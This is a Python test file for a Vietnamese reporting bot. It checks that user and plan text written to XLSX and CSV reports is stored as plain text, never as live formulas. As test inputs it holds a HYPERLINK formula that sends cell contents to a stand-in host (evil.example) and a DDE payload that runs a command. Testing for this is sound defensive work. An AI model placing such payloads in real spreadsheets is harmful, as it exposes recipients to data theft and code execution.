"""No formula reaches the coordinator's Excel: every cell written from user or plan text is a
string, in every XLSX and CSV papi-bot writes."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.config import AppConfig, Settings
from bot.planimport.model import ParsedPlan, ParsedTask
from bot.planimport.tabular import read_template, write_review
from bot.reports.cells import csv_cell, sanitize_text
from bot.reports.csvout import delimiter, write_csv
from storage.db import session_scope
from storage.models import Task, Unit
from storage.periods import current_period
from storage.rollup import rollup
from tests.handlers.helpers import World

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def _formulas(path: Path) -> list[str]:
    """Every cell formula stored in the workbook's XML (an <f> element)."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _report_files(world: World, tmp_path: Path) -> list[Path]:
    world.settings = Settings(app=AppConfig(data_dir=tmp_path))
    coord = world.link("coord")
    rows = world.send(coord, "/baocao")
    return [Path(row.file_path) for row in rows if row.file_path]


def test_a_blocked_reason_typed_as_a_formula_stays_text(world: World, tmp_path: Path) -> None:
    official = world.link("off1a")
    first, second = world.assignments_of("off1a")[:2]
    world.send(official, f"{first} vướng: {HYPERLINK}")
    world.send(official, f"{second} vướng: {DDE}")
    [xlsx] = [p for p in _report_files(world, tmp_path) if p.suffix == ".xlsx"]
    assert _formulas(xlsx) == []
    book = load_workbook(xlsx)
    sheet = book["Vướng mắc"]
    reasons = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert reasons[HYPERLINK] == "s" and reasons[DDE] == "s"


def test_plan_text_starting_with_equals_is_text_in_the_report(world: World, tmp_path: Path) -> None:
    with session_scope(world.engine) as session:
        task = session.get(Task, 1)
        assert task is not None
        task.text = "=1+1 Tổ chức hội nghị"
        task.stt = "=2+2"
    files = _report_files(world, tmp_path)
    for path in files:
        if path.suffix == ".xlsx":
            assert _formulas(path) == []


def test_the_csv_report_prefixes_formula_cells(world: World, tmp_path: Path) -> None:
    with session_scope(world.engine) as session:
        task = session.get(Task, 1)
        assert task is not None
        task.text = DDE
    with world.session() as session:
        root = session.get(Unit, world.people["coord"].unit_id)
        assert root is not None
        period = current_period("quarter", world.now.date())
        result = rollup(session, root, period, world.now, silence_days=21)
    path = write_csv(result, tmp_path / "report.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=delimiter()) for cell in row]
    assert "'" + DDE in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_review_spreadsheet_keeps_formula_text_as_text(tmp_path: Path) -> None:
    plan = ParsedPlan(
        title="=HYPERLINK(1)",
        year=2026,
        tasks=[
            ParsedTask(stt="1", text=HYPERLINK, lead=["=A1"], coordinating=["@SUM(1)"]),
            ParsedTask(stt="2", text="- Tổ chức hội nghị\x07 đối thoại", lead=["UBND cấp xã"]),
        ],
    )
    path = tmp_path / "review.xlsx"
    write_review(plan, path)
    assert _formulas(path) == []
    back = read_template(path)
    assert back.title == "=HYPERLINK(1)"
    assert [t.text for t in back.tasks] == [HYPERLINK, "- Tổ chức hội nghị đối thoại"]
    assert back.tasks[0].lead == ["=A1"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84912", "'+84912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Tổ chức", "Tổ chức"),
        (12, 12),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_sanitize_text_drops_control_characters() -> None:
    assert sanitize_text("a\x00b\x07c\td\ne") == "abc\td\ne"


def test_a_control_character_in_a_reason_does_not_break_the_report(
    world: World, tmp_path: Path
) -> None:
    official = world.link("off1a")
    first = world.assignments_of("off1a")[0]
    world.send(official, f"{first} vướng: thiếu\x07 kinh\x00 phí")
    files = _report_files(world, tmp_path)
    assert sorted(p.suffix for p in files) == [".docx", ".xlsx"]
